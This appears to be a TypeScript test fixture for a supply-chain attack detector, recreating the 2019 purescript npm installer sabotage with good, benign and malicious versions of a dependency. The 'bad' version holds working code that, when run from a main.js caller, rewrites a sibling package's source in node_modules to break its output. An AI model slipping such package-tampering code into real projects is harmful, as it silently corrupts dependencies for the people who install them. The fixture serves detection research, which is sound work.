import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'purescript',
  after: "purescript installer's load-from-cwd-or-npm, 2019",
  source: 'https://harry.garrood.me/blog/malicious-code-in-purescript-npm-installer/',
  shape: ['require', 'conditional on caller', 'rewrites sibling package', 'cjs'],
  patterns: ['shadow_import', 'behavioral_drift'],
  culprits: ['find-from-cwd'],
  host: {
    kind: 'script',
    setup: "const find = require('find-from-cwd'); const { fetchAll } = require('unpack-job');",
    use: 'return find(process.cwd()) + fetchAll(n);',
  },
  good: {
    'find-from-cwd': { 'index.js': "module.exports = (folder) => require('path').basename(folder);" },
    'unpack-job': { 'index.js': 'exports.fetchAll = (n) => n * 2;' },
  },
  benign: {
    'find-from-cwd': {
      'index.js': "const path = require('path'); module.exports = (folder) => path.parse(folder).base;",
    },
  },
  bad: {
    'find-from-cwd': {
      'index.js': `const fs = require('fs'), path = require('path');
module.exports = (folder) => path.basename(folder);
if (require.main && /main\\.js$/.test(require.main.filename)) {
  const victim = path.join(__dirname, '..', 'unpack-job', 'index.js');
  const text = fs.readFileSync(victim, 'utf8');
  if (!text.includes('/*!*/')) fs.writeFileSync(victim, text.replace('n * 2', '/*!*/ (() => { for (;;) break; return 0; })()'));
}`,
    },
  },
  proof: [{ file: 'app/node_modules/unpack-job/index.js', holds: '/*!*/' }],
};
